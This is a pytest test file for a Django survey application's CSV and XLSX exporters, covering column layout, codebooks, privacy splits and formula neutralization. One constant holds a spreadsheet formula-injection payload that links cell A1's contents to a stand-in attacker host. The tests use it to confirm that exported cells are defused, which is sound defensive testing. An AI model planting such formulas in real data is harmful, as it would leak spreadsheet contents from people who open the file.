import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from apps.core.csvsafe import neutralize
from apps.core.exporting import write_export
from apps.surveys import selectors
from apps.surveys.exporters import ContactsExporter, ResponsesExporter
from apps.surveys.models import Answer, Question, Response
from apps.surveys.versioning import version_copy_as_draft, version_publish

from .helpers import VOLUNTEER, answered, clone, read_header, read_zip

pytestmark = pytest.mark.django_db

OPTIONS = {"filters": {}, "labels": False}
EMAIL = "practitioner@example.org"
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


class FullRecord(ResponsesExporter):
    """Both files' columns in one (not registered): for the tests of the layout."""

    quasi_identifiers = None


def export_csv(tmp_path, options=OPTIONS, exporter=None):
    path = tmp_path / "out.zip"
    rows = write_export(exporter or FullRecord(), options, "csv", path)
    return path, rows


def by_id(rows):
    return {int(row["response_id"]): row for row in rows}


@pytest.fixture
def two_paths(survey):
    """A paid frontline worker and a volunteer who chose "other" as role: different pages."""
    return answered(survey), answered(survey, VOLUNTEER)


def test_every_column_is_present_for_every_skip_path(two_paths, tmp_path):
    paid, volunteer = two_paths
    path, written = export_csv(tmp_path)
    files = read_zip(path)
    assert set(files) == {"data.csv", "codebook.csv"}
    assert written == 2
    header = read_header(path)
    rows = by_id(files["data.csv"])
    assert list(rows[paid.pk]) == list(rows[volunteer.pk]) == header
    assert header[:13] == [
        "response_id", "version", "collector", "channel", "language", "submitted_at",
        "duration_seconds", "flag_too_fast", "flag_duplicate", "flag_staff_entered",
        "profile_role", "profile_setting", "profile_state",
    ]  # fmt: skip
    for column in ("time_use_direct", "hours_per_week", "T01_relevant", "state_zip_state"):
        assert column in header
        assert rows[paid.pk][column] != ""
        assert rows[volunteer.pk][column] == ""  # not on the volunteer's path
    assert rows[paid.pk]["state_zip_state"] == "TX"
    assert rows[paid.pk]["state_zip_zip3"] == "787"
    assert rows[paid.pk]["supervise_count"] == ""  # skipped: supervises = no
    assert rows[paid.pk]["version"] == "1"


def test_export_is_stable_between_two_runs(two_paths, tmp_path):
    first, _ = export_csv(tmp_path)
    second = tmp_path / "again.zip"
    write_export(FullRecord(), OPTIONS, "csv", second)
    assert read_header(first) == read_header(second)
    assert read_header(first, "codebook.csv") == ["column", "question", "type", "values", "notes"]


def test_multiple_choice_is_one_zero_one_column_per_choice(two_paths, tmp_path):
    paid, volunteer = two_paths
    rows = by_id(read_zip(export_csv(tmp_path)[0])["data.csv"])
    funding = [c for c in rows[paid.pk] if c.startswith("funding_")]
    assert funding == [
        "funding_cclc_21st", "funding_state_program", "funding_ccdf", "funding_fees",
        "funding_other", "funding_dont_know", "funding_other_text",
    ]  # fmt: skip
    assert rows[paid.pk]["funding_cclc_21st"] == "1"
    assert rows[paid.pk]["funding_ccdf"] == "0"
    assert rows[paid.pk]["funding_other"] == "0"
    assert rows[volunteer.pk]["funding_cclc_21st"] == ""  # not shown to volunteers


def test_other_text_is_kept(two_paths, tmp_path):
    _paid, volunteer = two_paths
    rows = by_id(read_zip(export_csv(tmp_path)[0])["data.csv"])
    assert rows[volunteer.pk]["role"] == "other"
    assert rows[volunteer.pk]["role_other_text"] == "Something else"


def test_labels_instead_of_codes(two_paths, tmp_path):
    paid, _volunteer = two_paths
    path, _ = export_csv(tmp_path, {"filters": {}, "labels": True})
    rows = by_id(read_zip(path)["data.csv"])
    assert rows[paid.pk]["role"].startswith("Frontline youth worker")
    assert rows[paid.pk]["supervises"] == "No"
    assert rows[paid.pk]["funding_cclc_21st"] == "1"  # still 0/1
    codes = by_id(read_zip(export_csv(tmp_path)[0])["data.csv"])
    assert codes[paid.pk]["role"] == "frontline"
    assert codes[paid.pk]["supervises"] == "no"
    assert codes[paid.pk]["stay_1_year"] == "1"


def test_contact_email_is_never_in_the_responses_export(survey, tmp_path):
    answered(survey, {"follow_up": "yes"})
    assert Response.objects.get().contact.email == "practitioner@example.org"
    path, _ = export_csv(tmp_path)
    assert "contact_email" not in read_header(path)
    for rows in read_zip(path).values():
        assert not any("example.org" in value for row in rows for value in row.values())


def test_codebook_describes_every_data_column(two_paths, tmp_path):
    path, _ = export_csv(tmp_path)
    codebook = read_zip(path)["codebook.csv"]
    assert [row["column"] for row in codebook] == read_header(path)
    role = next(row for row in codebook if row["column"] == "role")
    assert role["question"] == Question.objects.get(key="role").text_en
    assert "frontline = Frontline youth worker" in role["values"]
    assert "not shown on this respondent's path" in role["notes"]
    funding = next(row for row in codebook if row["column"] == "funding_ccdf")
    assert funding["type"] == "0/1"


def test_task_ratings_are_three_columns_per_task(two_paths, tmp_path):
    paid, _volunteer = two_paths
    rows = by_id(read_zip(export_csv(tmp_path)[0])["data.csv"])
    assert rows[paid.pk]["T01_relevant"] == "1"
    assert rows[paid.pk]["T01_importance"] == "4"
    assert rows[paid.pk]["T01_frequency"] == "5"
    unrated = [c for c in rows[paid.pk] if c.endswith("_relevant") and rows[paid.pk][c] == ""]
    assert unrated  # tasks not shown first to frontline staff stay blank


def test_formula_text_is_neutralized_and_numbers_stay_numbers(survey, tmp_path):
    response = answered(survey)
    Answer.objects.filter(response=response, question__key="job_title").update(text_value=ATTACK)
    Answer.objects.filter(response=response, question__key="employer_name").update(
        text_value="  -2+3"
    )
    rows = read_zip(export_csv(tmp_path)[0])["data.csv"]
    assert rows[0]["job_title"] == "'" + ATTACK
    assert rows[0]["employer_name"] == "'  -2+3"
    assert rows[0]["hours_per_week"].lstrip("-").isdigit()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("   =1", "'   =1"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def test_xlsx_opens_and_has_the_codebook_sheet(two_paths, tmp_path):
    paid, _volunteer = two_paths
    Answer.objects.filter(response=paid, question__key="job_title").update(text_value=ATTACK)
    path = tmp_path / "out.xlsx"
    assert write_export(FullRecord(), OPTIONS, "xlsx", path) == 2
    workbook = load_workbook(path, read_only=True)
    assert workbook.sheetnames == ["data", "codebook"]
    data = list(workbook["data"].iter_rows(values_only=True))
    header = list(data[0])
    assert len(data) == 3
    row = next(r for r in data[1:] if r[0] == paid.pk)
    assert isinstance(row[0], int)
    assert row[header.index("job_title")] == "'" + ATTACK
    assert isinstance(row[header.index("hours_per_week")], int | float)
    codebook = list(workbook["codebook"].iter_rows(values_only=True))
    assert [r[0] for r in codebook[1:]] == header


def test_xlsx_cells_are_text_never_formulas_and_lose_control_characters(two_paths, tmp_path):
    paid, _volunteer = two_paths
    answers = Answer.objects.filter(response=paid)
    answers.filter(question__key="job_title").update(text_value="=1+1")
    answers.filter(question__key="employer_name").update(text_value="Bell\x07 and\x1b esc")
    path = tmp_path / "out.xlsx"
    write_export(FullRecord(), OPTIONS, "xlsx", path)
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]  # no temporary file left
    sheet = load_workbook(path)["data"]  # not read-only: cell types are visible
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == paid.pk)
    title = row[header.index("job_title")]
    assert (title.value, title.data_type) == ("'=1+1", "s")
    assert row[header.index("employer_name")].value == "Bell and esc"
    assert not [cell for r in sheet.iter_rows() for cell in r if cell.data_type == "f"]


def test_an_empty_export_still_has_its_header(survey, tmp_path):
    path, written = export_csv(tmp_path)
    assert written == 0
    assert "role" in read_header(path)
    assert read_zip(path)["data.csv"] == []


def test_contacts_export_lists_addresses(survey, tmp_path):
    response = answered(survey, {"follow_up": "yes"})
    answered(survey)  # no address
    path, written = export_csv(tmp_path, exporter=ContactsExporter())
    assert written == 1
    row = {"response_id": str(response.pk), "email": EMAIL, "wants_follow_up": "1"}
    assert read_zip(path)["data.csv"] == [row]


def test_responses_export_runs_the_same_queries_for_5_and_50_responses(
    survey, tmp_path, django_assert_max_num_queries
):
    response = answered(survey)
    clone(response, 4)
    write_export(ResponsesExporter(), OPTIONS, "csv", tmp_path / "warm.zip")  # structure cache
    with CaptureQueriesContext(connection) as five:
        assert write_export(ResponsesExporter(), OPTIONS, "csv", tmp_path / "a.zip") == 5
    clone(response, 45)
    with django_assert_max_num_queries(len(five)) as fifty:
        assert write_export(ResponsesExporter(), OPTIONS, "csv", tmp_path / "b.zip") == 50
    assert len(fifty) == len(five)
    selectors._STRUCTURES.clear()
    with CaptureQueriesContext(connection) as cold:
        write_export(ResponsesExporter(), OPTIONS, "csv", tmp_path / "c.zip")
    assert len(cold) <= len(five) + 5  # the version's structure: a handful more, once


def test_versions_share_columns_by_question_key(survey, administrator, tmp_path):
    old = answered(survey)
    draft = version_copy_as_draft(version=survey.versions.get(), by=administrator)
    Question.objects.filter(version=draft, key="employer_name").delete()
    Question.objects.filter(version=draft, key="job_title").update(type="long_text")
    Question.objects.filter(version=draft, key="hours_per_week").update(
        type="short_text", min_value=None, max_value=None
    )
    version_publish(version=draft, by=administrator)
    new = answered(survey)
    assert new.version == draft
    path, _ = export_csv(tmp_path)
    header = read_header(path)
    assert header.count("job_title") == 1  # short or long text: the same column
    assert [c for c in header if c.startswith("hours_per_week")] == [
        "hours_per_week",
        "hours_per_week_v2",
    ]
    rows = by_id(read_zip(path)["data.csv"])
    assert rows[old.pk]["employer_name"] == "Answer to employer_name"
    assert rows[new.pk]["employer_name"] == ""
    assert rows[new.pk]["version"] == "2"
    assert rows[new.pk]["hours_per_week_v2"] == "Answer to hours_per_week"
    assert rows[new.pk]["hours_per_week"] == ""
    codebook = {row["column"]: row for row in read_zip(path)["codebook.csv"]}
    assert "asked in survey version(s) 1 only" in codebook["employer_name"]["notes"]
    assert "version" not in codebook["job_title"]["notes"]


def test_quasi_identifiers_are_only_in_the_opt_in_file(two_paths, tmp_path):
    from apps.surveys.exporters import ResponseIdentifiersExporter

    paid, volunteer = two_paths
    main, _ = export_csv(tmp_path, exporter=ResponsesExporter())
    header = read_header(main)
    for column in ("employer_name", "job_title", "state_zip_zip3", "role_other_text"):
        assert column not in header
    assert {"response_id", "role", "state_zip_state", "hours_per_week"} <= set(header)
    codebook = [row["column"] for row in read_zip(main)["codebook.csv"]]
    assert codebook == header
    second = tmp_path / "identifiers.zip"
    write_export(ResponseIdentifiersExporter(), OPTIONS, "csv", second)
    ids = read_header(second)
    assert ids[0] == "response_id"
    assert {"employer_name", "job_title", "state_zip_zip3", "role_other_text"} <= set(ids)
    assert "role" not in ids and "hours_per_week" not in ids
    rows = by_id(read_zip(second)["data.csv"])
    assert rows[paid.pk]["state_zip_zip3"] == "787"
    assert rows[volunteer.pk]["role_other_text"] == "Something else"


def test_record_level_exports_are_for_administrators_and_audited():
    from apps.accounts.roles import Role as StaffRole
    from apps.surveys.exporters import ResponseIdentifiersExporter

    for exporter in (ResponsesExporter, ResponseIdentifiersExporter):
        assert exporter.requires_role == StaffRole.ADMINISTRATOR
        assert exporter.includes_personal_data is True
